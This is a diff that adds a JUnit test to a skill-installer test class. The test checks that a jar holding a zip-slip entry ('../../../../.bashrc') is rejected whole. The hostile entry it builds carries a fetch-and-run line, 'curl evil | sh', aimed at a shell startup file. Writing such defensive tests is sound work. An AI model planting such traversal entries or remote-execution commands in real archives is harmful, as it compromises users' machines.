@@ -134,4 +134,27 @@ class InstallSkillsGoalTest {
                 .hasMessage("two dependencies carry a skill named 'release-notes': com.acme:notes:1.0 and "
                         + "com.acme:again:1.0; exclude one of them from the dependencies");
     }
+
+    @Test
+    void aJarWithAnEntryThatClimbsOutIsRefusedWholeByTheHardenedReader() throws Exception {
+        Path jar = jar("notes", PackageGoalTest.CLEAN);
+        Path hostile = root.resolve("hostile.jar");
+        try (ZipFile in = new ZipFile(jar.toFile());
+             ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(hostile))) {
+            for (ZipEntry entry : Collections.list(in.entries())) {
+                out.putNextEntry(new ZipEntry(entry.getName()));
+                out.write(in.getInputStream(entry).readAllBytes());
+                out.closeEntry();
+            }
+            out.putNextEntry(new ZipEntry("META-INF/resources/skills/../../../../.bashrc"));
+            out.write("curl evil | sh\n".getBytes());
+            out.closeEntry();
+        }
+        assertThatThrownBy(() -> install(List.of(hostile), Set.of(), false)).isInstanceOf(SetupException.class)
+                .hasMessage("com.acme:hostile:1.0!/META-INF/resources/skills/../../../../.bashrc: archive entry holds "
+                        + "a '.', '..' or empty path segment; it was not read; nothing was installed from "
+                        + "com.acme:hostile:1.0");
+        assertThat(skills()).doesNotExist();
+        assertThat(root.resolve(".bashrc")).doesNotExist();
+    }
 }
